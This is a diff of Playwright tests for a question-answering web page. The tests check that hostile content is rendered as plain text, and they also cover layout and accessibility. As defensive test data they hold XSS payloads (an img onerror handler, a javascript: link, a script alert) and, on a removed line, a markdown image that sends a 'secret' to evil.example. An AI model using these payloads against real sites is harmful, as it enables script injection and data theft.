@@ -17,23 +17,18 @@ import rag.service.page
 from indexer.errors import NotFound
 from rag.service.page import FILES, POLICY, page_file
 from tests.web.conftest import Visit
-from tests.web.small_service import HOSTILE, SmallService
+from tests.web.papers import HOSTILE
+from tests.web.small_service import SmallService
+from tests.web.steps import answered, begin_anew
 
 FOLDER = Path(rag.service.page.__file__).parent
-
-
-def answered(page: Page, question: str) -> None:
-    page.locator("#question").fill(question)
-    page.keyboard.press("Enter")
-    page.locator(".answer .footnotes").first.wait_for()
 
 
 def test_a_hostile_document_and_answer_are_shown_as_text(visit: Visit) -> None:
     page = visit()
     answered(page, "Hostile, is it?")
     expect(page.locator(".text")).to_contain_text("""<img src=x onerror="document.title='owned'">""")
-    expect(page.locator(".text")).to_contain_text("![x](http://evil.example/?q=secret)")
-    expect(page.locator(".text")).to_contain_text("[click](javascript:alert(1))")
+    expect(page.locator(".text")).to_contain_text("> x click")  # links are words: they lead nowhere
     expect(page.locator(".text")).to_contain_text("[U+202E]evil[U+202C], [U+200B]says")
     expect(page.locator(".footnote .name")).to_have_text("<b>hostile</b>.md")
     expect(page.locator(".footnote mark")).to_have_text("evil")
@@ -43,13 +38,14 @@ def test_a_hostile_document_and_answer_are_shown_as_text(visit: Visit) -> None:
     page.get_by_text("How this was found").click()
     page.get_by_role("link", name="Documents").click()
     expect(page.locator(".document-row .name").last).to_have_text("<b>hostile</b>.md")
-    page.reload()  # what history kept is text as well
     page.get_by_role("link", name="Ask", exact=True).click()
+    begin_anew(page)
+    page.reload()  # what history kept is text as well
     page.locator("#past-list .earlier").click()
     expect(page.locator(".text")).to_contain_text("<b>this page</b>")
     assert page.title() == "Footnote"
     assert page.locator("img, iframe, object, embed, .answer script, .document script, .text b").count() == 0
-    assert page.locator("a[href]:not([href^='#'])").count() == 0
+    assert page.locator("a[href]:not([href^='#'], [href^='v1/collections/'])").count() == 0
 
 
 def test_a_hostile_error_and_a_hostile_name_are_shown_as_text(visit: Visit, service: SmallService) -> None:
@@ -82,7 +78,7 @@ def test_a_hostile_history_does_nothing(visit: Visit) -> None:
     page.reload()
     expect(page.locator("#past-list .name")).to_have_text("<script>alert(1)</script>")  # what is not whole is left out
     page.locator("#past-list .earlier").click()
-    expect(page.locator(".answer h2")).to_have_text("<script>alert(1)</script>")
+    expect(page.locator(".asked")).to_have_text("<script>alert(1)</script>")
 
 
 def test_the_policy_stops_what_would_slip_through(visit: Visit) -> None:
@@ -133,6 +129,7 @@ def test_the_files_of_the_page_are_those_that_are_listed() -> None:
     with pytest.raises(NotFound, match=r"The page has no file '\.\./__init__\.py'"):
         page_file("../__init__.py")
     assert "'unsafe" not in POLICY
+    assert sum(len(page_file(name)[0]) for name in FILES) < 200_000
 
 
 SIZES = [
@@ -147,17 +144,24 @@ def test_nothing_sticks_out_of_the_screen(visit: Visit, service: SmallService, w
     service.papers["default"][0].text += "\n" + "averylongword" * 40 + "\n"
     service.papers["default"][0].name = "archive-" * 30 + ".md"
     service.papers["x" * 64] = []
+    service.folders.append("/papers/" + "folder" * 30)
     page = visit(viewport={"width": width, "height": height})
     assert _overflow(page) <= 0
+    for question in (
+        "What is Kestrel?",
+        "Steps, please.",
+        "Maybe it snowed?",
+        "Bread, how much?",
+        "Wages, all of them?",
+    ):
+        answered(page, question)
+        assert _overflow(page) <= 0, question
+    page.get_by_text("How this was found").first.click()
+    page.get_by_role("button", name="Options").click()
+    assert _overflow(page) <= 0
+    page.get_by_role("button", name="Options").click()
     answered(page, "What is Kestrel?")
-    page.locator("summary").click()
-    assert _overflow(page) <= 0
-    answered(page, "Steps, please.")
-    assert _overflow(page) <= 0
-    answered(page, "Maybe it snowed?")
-    assert _overflow(page) <= 0
-    answered(page, "What is Kestrel?")
-    page.locator(".open").first.click()
+    page.locator(".turn").last.locator(".open").first.click()
     expect(page.locator(".document .quote").first).to_be_visible()
     assert _overflow(page) <= 0
     page.keyboard.press("Escape")
@@ -192,7 +196,7 @@ def test_on_a_telephone_the_document_lies_over_the_page_and_nothing_behind_it_is
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
 @pytest.mark.parametrize(("width", "height"), [SIZES[0], SIZES[2]])
-def test_the_page_meets_wcag_aa(visit: Visit, scheme: str, width: int, height: int) -> None:
+def test_the_page_meets_wcag_aa(visit: Visit, service: SmallService, scheme: str, width: int, height: int) -> None:
     """By axe-core's rules, contrast and the size of what one presses among them, in every view."""
     page = visit(viewport={"width": width, "height": height}, color_scheme=scheme, reduced_motion="reduce")
     page.evaluate(importlib.resources.files("axe_playwright_python").joinpath("axe.min.js").read_text(encoding="utf-8"))
@@ -200,19 +204,33 @@ def test_the_page_meets_wcag_aa(visit: Visit, scheme: str, width: int, height: i
     answered(page, "Who opened it?")
     page.get_by_role("button", name="Check the footnotes").click()
     expect(page.locator(".checked")).to_be_visible()
-    page.locator("summary").click()
+    page.get_by_text("How this was found").click()
+    page.get_by_text("Copy as").click()
     assert _violations(page) == []
     page.locator(".reference").first.click()
     expect(page.locator(".document .copied")).to_be_visible()
     assert _violations(page) == []
     page.keyboard.press("Escape")
-    for question in ("What is Kestrel?", "Maybe it snowed?", "Steps, please."):
+    for question in (
+        "What is Kestrel?",
+        "Maybe it snowed?",
+        "Steps, please.",
+        "Bread, how much?",
+        "Wages, all of them?",
+    ):
         answered(page, question)
         assert _violations(page) == [], question
-    page.keyboard.press("Tab")
+    page.keyboard.press("o")
+    page.locator("#filter-value").fill("markdown")
+    page.keyboard.press("Enter")
+    expect(page.locator(".chip")).to_be_visible()
+    assert _violations(page) == []
+    page.keyboard.press("Escape")
     page.keyboard.press("?")
     assert _violations(page) == []
     page.keyboard.press("Escape")
+    service.folders.append("/papers")
+    service.gone.append("/papers/old.md")
     page.get_by_role("link", name="Documents").click()
     page.locator("#files").set_input_files([FilePayload(name="a.bin", mimeType="a/b", buffer=b"\x00")])
     expect(page.locator(".upload.failed")).to_be_visible()
@@ -220,11 +238,17 @@ def test_the_page_meets_wcag_aa(visit: Visit, scheme: str, width: int, height: i
 
 
 def _violations(page: Page) -> list[str]:
-    """Return what axe finds: each rule with the elements that break it."""
+    """Return what axe finds: each rule with the elements that break it.
+
+    The field stands still meanwhile: what it covers in part until one scrolls would count as too small to press.
+    """
     found: list[str] = page.evaluate(
         """async () => {
             const tags = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"];
+            const form = document.getElementById("ask-form");
+            form.style.position = "static";
             const { violations } = await axe.run(document, { runOnly: tags, resultTypes: ["violations"] });
+            form.style.position = "";
             const places = (nodes) => nodes.map((node) => node.html.slice(0, 200)).join(" | ");
             return violations.map((each) => `${each.id}: ${places(each.nodes)}`);
         }"""
